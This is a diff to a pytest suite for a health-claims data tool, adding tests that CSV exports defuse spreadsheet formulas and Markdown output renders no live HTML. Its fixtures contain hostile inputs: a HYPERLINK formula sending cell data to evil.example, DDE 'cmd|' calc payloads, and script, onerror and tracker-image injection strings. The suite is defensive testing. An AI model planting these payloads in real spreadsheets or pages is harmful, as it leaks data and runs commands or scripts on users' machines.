@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import functools
+import html
 import io
 import json
 import os
@@ -19,7 +20,7 @@ from pathlib import Path
 import pytest
 import yaml
 
-from helpers import explain, run
+from helpers import claim, explain, run, source, write_dataset
 from kzhealth import files, yamlsource
 from kzhealth.errors import DataError
 from kzhealth.loader import load_dataset
@@ -262,8 +263,11 @@ def test_markup_and_bidi_in_data_stay_literal_in_every_format(claims_dir: Path, 
         assert quote == HOSTILE_QUOTE
     elif fmt == "csv":
         assert next(csv.DictReader(io.StringIO(out)))["quote"] == HOSTILE_QUOTE
-    elif fmt == "markdown":  # Markdown escapes backslashes so that they render as written
-        assert HOSTILE_QUOTE.replace("\\", "\\\\") in out
+    elif fmt == "markdown":  # escaped so that a Markdown renderer shows it as written
+        from markdown_it import MarkdownIt  # noqa: PLC0415
+
+        rendered = MarkdownIt("commonmark").enable("table").render(out)
+        assert html.escape(HOSTILE_QUOTE, quote=False) in rendered
     else:
         assert HOSTILE_QUOTE in out
 
@@ -396,3 +400,57 @@ def test_loader_raises_only_dataerror_for_a_bad_folder(claims_dir: Path) -> None
     (claims_dir / "beta.yaml").write_bytes(b"\xff\xfe")
     with pytest.raises(DataError):
         load_dataset(claims_dir)
+
+
+HOSTILE_TEXT = {
+    "quote": '=HYPERLINK("http://evil.example/?"&A1,"Infant mortality fell by 20.2%")',
+    "note": "+cmd|' /C calc'!A0",
+}
+
+
+def _hostile_folder(tmp_path: Path, **fields: str) -> Path:
+    item = claim("evil", **fields)
+    sources = [source("src-a", title="@SUM(1+1)*cmd|' /C calc'!A0", short="-2+3")]
+    return write_dataset(tmp_path / "claims", {"src-a": [item]}, sources=sources)
+
+
+@pytest.mark.parametrize("command", ["list", "conflicts", "sources"])
+def test_csv_never_carries_a_formula(tmp_path: Path, command: str) -> None:
+    """Text cells that a spreadsheet would run (=, +, -, @ first) start with an apostrophe;
+    numbers such as a negative value or range are left as they are (CWE-1236)."""
+    other = claim("other", figure="26.3%", value="-26.3", quote="=1+1 fell by 26.3%")
+    root = write_dataset(
+        tmp_path / "claims",
+        {"src-a": [claim("evil", **HOSTILE_TEXT), other]},
+        sources=[source("src-a", title="@SUM(1+1)*cmd|' /C calc'!A0", short="-2+3")],
+    )
+    result = run(command, "--claims", str(root), "-f", "csv")
+    assert result.exit_code == 0, explain(result)
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert rows
+    for row in rows:
+        for column, cell in row.items():
+            if column in ("value", "range", "conflict", "claims"):
+                continue
+            assert not cell.startswith(("=", "+", "-", "@")), (column, cell)
+    if command != "sources":
+        assert any(row["value"] == "-20.2" for row in rows)
+        assert any(row["quote"].startswith("'=") for row in rows)
+
+
+def test_markdown_carries_no_live_html_links_or_images(tmp_path: Path) -> None:
+    """What a Markdown renderer makes of the report holds no tag, link or image from the data:
+    the quote a reader sees is the quote in the data."""
+    from markdown_it import MarkdownIt  # noqa: PLC0415 - Rich's own Markdown parser
+
+    quote = (
+        "<img src=x onerror=alert(1)><script>alert(2)</script> fell by 20.2% "
+        "[click](http://evil.example) ![](http://tracker.example/p.png) **bold**"
+    )
+    root = _hostile_folder(tmp_path, quote=quote)
+    result = run("list", "--claims", str(root), "-f", "markdown")
+    assert result.exit_code == 0, explain(result)
+    html = MarkdownIt("commonmark").enable("table").render(result.stdout)
+    for live in ("<img", "<script", "<a ", "<strong>"):
+        assert live not in html, live
+    assert "&lt;img src=x onerror=alert(1)&gt;" in html
